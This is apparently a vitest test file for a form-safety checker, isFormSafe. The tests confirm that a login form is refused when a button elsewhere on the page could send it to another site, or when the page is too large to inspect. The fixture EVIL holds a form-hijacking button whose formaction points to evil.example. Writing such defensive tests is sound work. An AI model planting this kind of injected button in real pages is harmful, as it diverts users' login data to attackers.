// @vitest-environment happy-dom
import { expect, it, vi } from 'vitest';
import { isFormSafe } from './check-form';

// What this DOM does not have where browsers have it.
vi.hoisted(() => {
  const give = (owner: object, name: string, get: () => unknown) => {
    if (!Object.hasOwn(owner, name)) Object.defineProperty(owner, name, { get, configurable: true });
  };
  give(Element.prototype, 'assignedSlot', () => null);
  give(Document.prototype, 'documentElement', () => null);
  give(Node.prototype, 'baseURI', () => 'https://paramant.app/auth/login');
});

const EVIL = '<button form="form" formaction="https://evil.example/x"></button>';

function isSafe(beside: string): boolean {
  document.body.innerHTML = `<form id="form"><input></form>${beside}`;
  return isFormSafe(document.querySelector('form'));
}

it('refuses a form that a button elsewhere on the page would send to another site', () => {
  expect(isSafe('<button form="form"></button>')).toBe(true);
  expect(isSafe(EVIL)).toBe(false);
});

it('refuses a form on a page that is too large to be looked through, since such a button may stand where nobody looked', () => {
  const many = '<i></i>'.repeat(20_000);
  expect(isSafe(many + EVIL)).toBe(false);
  expect(isSafe(many)).toBe(false);
});
